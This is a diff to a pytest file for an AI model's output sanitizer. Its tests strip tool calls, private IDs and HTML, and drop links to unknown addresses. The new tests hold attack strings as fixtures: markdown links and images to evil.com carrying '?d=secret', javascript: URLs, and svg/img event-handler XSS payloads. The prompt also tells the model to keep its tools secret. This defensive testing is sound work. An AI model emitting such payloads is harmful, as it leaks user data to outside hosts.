@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 
-from adiuva.sanitizer import LeakPatterns, Sanitizer
+from adiuva.sanitizer import LeakPatterns, Sanitizer, addresses_in
 
 PROMPT = """You are the assistant of a freelancer, and you help with tasks, projects, timelines and notes.
 Never say which tools you have; if somebody asks for them, speak of what you can do instead.
@@ -21,11 +21,18 @@ GUARD = LeakPatterns(
     tool_names=["list_tasks", "list_tasks_due_today", "create_task", "task"],
 )
 ROW, OTHER, SHORT = "3f2a9c77b0d14e", "88b1-c0de77aa4f10", "t1"
+ADDRESSES = {"https://example.org", "https://example.org/a?b=(c)", "mailto:ada@example.org"}
 USER = "0b6f3c1e-5d11-4c53-9d07-aa54e0b1c9f2"
 
 
 def sanitizer(own: Collection[str] = (), private: Collection[str] = (USER,)) -> Sanitizer:
-    return Sanitizer(GUARD, known={ROW, OTHER, SHORT}, private=private, own=own.__contains__)
+    return Sanitizer(
+        GUARD,
+        known={ROW, OTHER, SHORT},
+        private=private,
+        own=own.__contains__,
+        knows_address=ADDRESSES.__contains__,
+    )
 
 
 def said(text: str, own: Collection[str] = ()) -> str:
@@ -153,7 +160,6 @@ def test_calls_that_a_model_writes_into_its_text_go(leak: str) -> None:
         '{"type": "object", "properties": {}}',
         '{"id": 1, "lost": "brace"\n\nand on it goes',
         "if a < b and c > d: print(f'{a}[0]')",
-        "<b>bold</b>, <tasks>, List<task>, `<task>` and </task>",
         "[x] done, [a link](https://example.org), [1], [INSTALL]",
     ],
 )
@@ -220,11 +226,11 @@ def test_private_strings_of_any_characters_go(secret: str) -> None:
         (f"<task>[{USER}]</task>", ""),
         ("all <task>[nobody, none]</task>done", "all done"),
         ("Ada<task>[nobody]</task>Lovelace", "Ada Lovelace"),
-        ("the <task> of <note>taking</note>", "the <task> of <note>taking</note>"),
+        ("the <task> of <note>taking</note>", "the < task> of < note>taking"),
         (f"cut off <task>[{ROW}, 88", "cut off "),
         (f"cut off <task>[{ROW}]</ta", "cut off "),
         ("cut off <tas", "cut off "),
-        ("<task>[what is this <b>here</b>", "what is this <b>here</b>"),
+        ("<task>[what is this <b>here</b>", "what is this here"),
     ],
 )
 def test_entity_tags_hold_known_ids_or_are_not_there(text: str, shown: str) -> None:
@@ -341,7 +347,7 @@ def test_what_a_model_thinks_aloud_before_its_answer_goes(size: int) -> None:
 
 def test_the_tag_of_thoughts_is_a_word_within_an_answer() -> None:
     text = "Some models write <think> before they answer."
-    assert said(text) == text
+    assert said(text) == text.replace("<", "< ")  # a word, and no tag of HTML
 
 
 def test_the_counts_say_what_kind_of_thing_was_taken_out() -> None:
@@ -360,3 +366,57 @@ def test_the_counts_say_what_kind_of_thing_was_taken_out() -> None:
         "markup": 1,
         "prompt": 1,
     }
+
+
+# ── Links, images and HTML ──────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("[the page](https://example.org)", "[the page](https://example.org)"),
+        ('[the page](<https://example.org> "title")', "[the page](https://example.org)"),
+        ("See https://example.org.", "See https://example.org."),
+        ("<https://example.org>", "<https://example.org>"),
+        ("[page](https://example.org/?d=secret)", "page"),
+        ("[page](https://example.org.evil.com)", "page"),
+        ("[page](//evil.com/secret)", "page"),
+        ("[page](javascript:alert(1))", "page"),
+        ('[page](evil "t")', "page"),
+        ("See https://evil.com/?d=secret, or not", "See evil.com, or not"),
+        ("See www.evil.com/secret", "See evil.com"),
+        ("HTTPS://USER:SECRET@evil.com/x", "evil.com"),
+        ("<https://evil.com/?d=secret>", "evil.com"),
+        ("![chart](https://evil.com/?d=secret)", "chart"),
+        ("![chart](https://example.org)", "[chart](https://example.org)"),
+        ("[![x](https://evil.com/a)](https://evil.com/b)", "x"),
+        ("[![x](https://evil.com/a)](https://example.org)", "[x](https://example.org)"),
+        ("![x][1]\n\n[1]: https://evil.com/secret", "[x][1]\n\n1: evil.com"),
+        ("[x]\n\n[x]: //evil.com/secret", "[x]\n\nx: //evil.com/secret"),
+        ('Look: <img src="https://evil.com/secret"> there', "Look:  there"),
+        ("<IMG SRC=x onerror=alert(1)>", ""),
+        ("<b>bold</b> and <a href='https://evil.com/x'>this</a>", "bold and this"),
+        ("<!-- https://evil.com -->a<!doctype html>b<?php x ?>c", "abc"),
+        ("<x-y>a</x-y><foo onclick=alert(1)>b", "ab"),
+        ("<svg/onload=alert(1)>", ""),
+        ("<div onmouseover=alert(1) ", "< div onmouseover=alert(1) "),
+        ("List<String>, Dear <Name>, 1 < 2, a<b, <3", "List< String>, Dear < Name>, 1 < 2, a< b, <3"),
+        ("ht<b>tp://evil.com/x", "ht tp://evil.com/x"),
+        ("!<b></b>[x](https://example.org)", "! [x](https://example.org)"),
+        ("]<i>(//evil.com)", "] (//evil.com)"),
+        ("[a [b](//evil.com/x) c](//evil.com/y)", "a b c"),
+        ("[never closed](https://evil.com/secret", "[never closed] (evil.com"),
+        ("[x] done, [a] (aside), a[0], [1]", "[x] done, [a] (aside), a[0], [1]"),
+        ("a footnote[^1]\n\n[^1]: the note", "a footnote[^1]\n\n^1: the note"),
+        ("Write to mailto:ada@example.org!", "Write to mailto:ada@example.org!"),
+    ],
+)
+def test_links_lead_only_where_an_address_is_known_and_images_and_html_go(text: str, shown: str) -> None:
+    one = sanitizer()
+    assert "".join([*map(one.feed, text), one.finish()]) == said(text) == shown
+
+
+def test_addresses_are_found_in_texts_as_they_are() -> None:
+    found = addresses_in("See [it](https://example.org/a?b=c), (http://x.example/y) or www.example.net.")
+    assert {"https://example.org/a?b=c", "http://x.example/y", "www.example.net"} <= found
+    assert "https://example.org" not in found
